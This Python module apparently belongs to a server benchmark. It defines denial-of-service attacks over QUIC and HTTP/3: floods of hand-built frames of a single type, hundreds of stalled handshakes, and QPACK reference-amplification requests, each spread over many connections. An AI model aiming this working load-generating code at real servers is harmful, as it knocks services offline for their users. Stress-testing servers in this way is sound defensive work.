"""Attacks over QUIC and HTTP/3. Their packets are written by hand, as no client would write them."""

from __future__ import annotations

import itertools
import os
import socket
import ssl
import time
from collections.abc import Callable, Generator, Iterator
from contextlib import ExitStack, suppress

from bench.attacks import Attack, Floor, Row, Target

MOST = 190  # frames in a packet: hardly fewer than the server takes
ROOM = 1100  # octets of frames in a packet
SENT = 400_000  # octets of an attack with one type of frame
PAUSE, TOGETHER = 0.006, 4  # seconds between so many datagrams: a kernel's buffer that is full drops them
FAR = 65000  # an offset in the window of a stream
Frames = Callable[[], Iterator[bytes]]


def number(value: int) -> bytes:
    """An integer of QUIC (RFC 9000 section 16)."""
    for size, mark in ((1, 0), (2, 1), (4, 2), (8, 3)):
        if value < 1 << (8 * size - 2):
            return (value | mark << (8 * size - 2)).to_bytes(size, "big")
    raise ValueError(value)


def each(make: Callable[[int], bytes]) -> Frames:
    """One frame after the other."""
    return lambda: map(make, itertools.count())


def packets(frames: Iterator[bytes]) -> Iterator[bytes]:
    """The frames of one packet after the other, padded."""
    while True:
        packet = b""
        for one in itertools.islice(frames, MOST):
            packet += one
            if len(packet) + len(one) > ROOM:
                break
        yield packet + bytes(max(0, ROOM - len(packet)))


class Sender:
    """A UDP socket, and a connection over it: with its handshake done, or no more than the key of its Initials."""

    def __init__(self, target: Target, established: bool) -> None:
        from aioquic.quic.crypto import CryptoPair

        self.address = (target.host, target.port)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.settimeout(0.02)
        self.sent = 0
        self.number = 0
        self.ids = (os.urandom(8), os.urandom(8))
        self.token = b""
        self.established = established
        if established:
            self.connect()
        else:
            self.crypto = CryptoPair()
            self.crypto.setup_initial(cid=self.ids[0], is_client=True, version=1)

    def connect(self) -> None:
        """The handshake, by aioquic's own client."""
        from aioquic import tls
        from aioquic.quic.configuration import QuicConfiguration
        from aioquic.quic.connection import QuicConnection

        configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost")
        configuration.verify_mode = ssl.CERT_NONE
        self.quic = quic = QuicConnection(configuration=configuration)
        quic.connect(self.address, now=time.time())
        end = time.time() + 5
        while not quic._handshake_confirmed and time.time() < end:
            self.flush()
            with suppress(TimeoutError):
                quic.receive_datagram(self.sock.recv(65535), self.address, now=time.time())
            if (quic.get_timer() or end) <= time.time():
                quic.handle_timer(now=time.time())
        self.flush(1.0)
        self.ids = (quic._peer_cid.cid, quic.host_cid)
        self.crypto = quic._cryptos[tls.Epoch.ONE_RTT]
        self.number = quic._packet_number

    def flush(self, ahead: float = 0.0) -> None:
        """Sends what aioquic's client has to send now, or so many seconds later: acknowledgements wait for others."""
        for data, _ in self.quic.datagrams_to_send(now=time.time() + ahead):
            self.sock.sendto(data, self.address)

    def send(self, frames: bytes) -> None:
        """Sends a packet of these frames."""
        from aioquic.quic.packet import QuicPacketType
        from aioquic.quic.packet_builder import QuicPacketBuilder

        builder = QuicPacketBuilder(
            host_cid=self.ids[1],
            is_client=True,
            max_datagram_size=1200,
            packet_number=self.number,
            peer_cid=self.ids[0],
            peer_token=self.token,
            version=1,
        )
        builder.start_packet(QuicPacketType.ONE_RTT if self.established else QuicPacketType.INITIAL, self.crypto)
        buffer = builder.start_frame(frames[0], capacity=len(frames))
        buffer.push_bytes(frames[1:])
        datagrams, _ = builder.flush()
        self.number = builder.packet_number
        for data in datagrams:
            self.sock.sendto(data, self.address)
            self.sent += len(data)

    def obey(self) -> bool:
        """Reads what came; True where the server asks for a proof of the address, which the next packet has."""
        from aioquic._buffer import Buffer
        from aioquic.quic.crypto import CryptoPair
        from aioquic.quic.packet import QuicPacketType, pull_quic_header

        with suppress(TimeoutError):
            header = pull_quic_header(Buffer(data=self.sock.recv(65535)), host_cid_length=8)
            if header.packet_type == QuicPacketType.RETRY:
                self.ids = (header.source_cid, self.ids[1])
                self.token = header.token
                self.crypto = CryptoPair()
                self.crypto.setup_initial(cid=self.ids[0], is_client=True, version=1)
                self.number = 0
                return True
        return False


def frames_of(frames: Frames, established: bool = True) -> Attack:
    """One connection, and packets full of frames of one type."""

    def run(target: Target) -> Generator[int, None, None]:
        sender = Sender(target, established)
        with sender.sock:
            yield 0
            for count, packet in enumerate(packets(frames())):
                sender.send(packet if established or count else b"\x06\x00\x00" + packet[3:])
                if count % TOGETHER == 0:
                    time.sleep(PAUSE)
                if sender.sent >= SENT:
                    break
            yield sender.sent

    return run


def crowd(count: int, packet: Callable[[Sender], None], established: bool = True) -> Attack:
    """Many connections that each send something and then nothing more."""

    def run(target: Target) -> Generator[int, None, None]:
        with ExitStack() as stack:
            senders = [Sender(target, established) for _ in range(count)]
            for sender in senders:
                stack.enter_context(sender.sock)
            yield 0
            for sender in senders:
                packet(sender)
                time.sleep(0.002)
            yield sum(sender.sent for sender in senders)

    return run


def far_octets(sender: Sender) -> None:
    """One octet far away on each of 64 streams."""
    sender.send(b"".join(b"\x0e" + number(4 * n) + number(FAR) + b"\x01x" for n in range(64)))


def unfinished(sender: Sender) -> None:
    """The last octet of a ClientHello that never comes."""
    sender.send(b"\x06" + number(16000) + b"\x01x")
    if sender.obey():
        sender.send(b"\x06" + number(16000) + b"\x01x")


def references(sender: Sender) -> None:
    """Requests of 90 references each to one large entry of QPACK's table; their bodies do not come."""
    table = b"\x3f\xe1\x07\x41x\x7f\xd9\x03" + b"v" * 600
    section = b"\x02\x00\xd4\xd7\xc1\x50\x01x" + b"\x80" * 90
    request = b"\x01" + number(len(section)) + section
    sender.send(b"\x0a\x02\x03\x00\x04\x00" + b"\x0a\x06" + number(1 + len(table)) + b"\x02" + table)
    for first in range(0, 96, 8):
        sender.send(b"".join(b"\x0a" + number(4 * n) + number(len(request)) + request for n in range(first, first + 8)))


def plain_requests(sender: Sender) -> None:
    """As many requests, without the references."""
    section = b"\x00\x00\xd4\xd7\xc1\x50\x01x"
    request = b"\x01" + number(len(section)) + section
    sender.send(b"\x0a\x02\x03\x00\x04\x00")
    for first in range(0, 96, 8):
        sender.send(b"".join(b"\x0a" + number(4 * n) + number(len(request)) + request for n in range(first, first + 8)))


FRAME_TYPES: dict[str, tuple[str, Frames]] = {
    "ping": ("PING", each(lambda _: b"\x01")),
    "padding": ("PADDING between PING", each(lambda _: b"\x01\x00")),
    "ack": ("ACK", each(lambda _: b"\x02\x00\x00\x00\x00")),
    "ack-ranges": (
        "ACK with 490 ranges",
        each(lambda _: b"\x02" + number(1000) + b"\x00" + number(490) + b"\x00" + bytes(980)),
    ),
    "reset": ("RESET_STREAM of one stream", each(lambda _: b"\x04\x00\x00\x00")),
    "stop": ("STOP_SENDING of one stream", each(lambda _: b"\x05\x00\x00")),
    "crypto-empty": ("CRYPTO without octets", each(lambda _: b"\x06\x00\x00")),
    "gaps": ("STREAM with every second octet", each(lambda n: b"\x0e\x00" + number(2 * n + 2) + b"\x01x")),
    "gaps-many": (
        "STREAM with every second octet, 64 streams",
        each(lambda n: b"\x0e" + number(4 * (n % 64)) + number(2 * (n // 64) + 2) + b"\x01x"),
    ),
    "backwards": ("STREAM from the end", each(lambda n: b"\x0e\x00" + number(60000 - n % 60000) + b"\x01x")),
    "octets": ("STREAM octet by octet", each(lambda n: b"\x0e\x02" + number(n) + b"\x01!")),
    "again": ("STREAM with the same octet", each(lambda _: b"\x0e\x00\x02\x01x")),
    "empty": ("STREAM without octets", each(lambda _: b"\x0a\x00\x00")),
    "max-data": ("MAX_DATA", each(lambda n: b"\x10" + number(2000000 + n))),
    "max-stream-data": ("MAX_STREAM_DATA", each(lambda n: b"\x11" + number(4 * (n % 64)) + number(n))),
    "max-streams": ("MAX_STREAMS", each(lambda n: b"\x12" + number(n))),
    "blocked": ("DATA_BLOCKED", each(lambda n: b"\x14" + number(n % 60))),
    "stream-blocked": ("STREAM_DATA_BLOCKED", each(lambda n: b"\x15" + number(4 * (n % 64)) + b"\x01")),
    "streams-blocked": ("STREAMS_BLOCKED", each(lambda _: b"\x16\x01")),
    "new-id": ("NEW_CONNECTION_ID", each(lambda _: b"\x18\x01\x00\x01c" + bytes(16))),
    "retire-id": ("RETIRE_CONNECTION_ID", each(lambda n: b"\x19" + number(n + 1))),
    "challenge": ("PATH_CHALLENGE", each(lambda n: b"\x1a" + n.to_bytes(8, "big"))),
    "response": ("PATH_RESPONSE", each(lambda n: b"\x1b" + n.to_bytes(8, "big"))),
}
INITIAL_TYPES: dict[str, tuple[str, Frames]] = {
    "gaps": ("CRYPTO with every second octet", each(lambda n: b"\x06" + number(2 * n + 2) + b"\x01x")),
    "empty": ("CRYPTO without octets", each(lambda _: b"\x06\x00\x00")),
    "ping": ("PING", each(lambda _: b"\x01")),
    "ack": ("ACK", each(lambda _: b"\x02\x00\x00\x00\x00")),
}

ROWS = [
    *(Row(f"quic-{name}", f"QUIC: {title}", "quic", frames_of(make)) for name, (title, make) in FRAME_TYPES.items()),
    *(
        Row(f"quic-initial-{name}", f"QUIC before a handshake: {title}", "quic", frames_of(make, False))
        for name, (title, make) in INITIAL_TYPES.items()
    ),
    Row(
        "quic-far",
        "QUIC: one octet at offset 65,000 of 64 streams, 60 connections",
        "quic",
        crowd(60, far_octets),
        floor=Floor("one packet of 580 octets for each connection, which aioquic opens in Python", 4, 20),
    ),
    Row("quic-unfinished", "QUIC: 800 handshakes with a gap", "quic", crowd(800, unfinished, False)),
    Row(
        "h3-references",
        "HTTP/3: 90 references to one entry in each request, beyond the request, 12 connections",
        "quic",
        crowd(12, references),
        crowd(12, plain_requests),
        floor=Floor("a field for each octet, checked in Python in less than 2 us", 2.5, 20),
    ),
    Row(
        "h3-requests",
        "HTTP/3: the heads of 96 requests, 12 connections",
        "quic",
        crowd(12, plain_requests),
        requests=12 * 96,
        floor=Floor(
            "requests of 14 octets that are answered, and open until their ends come: aioquic's streams", 15, 400
        ),
    ),
]
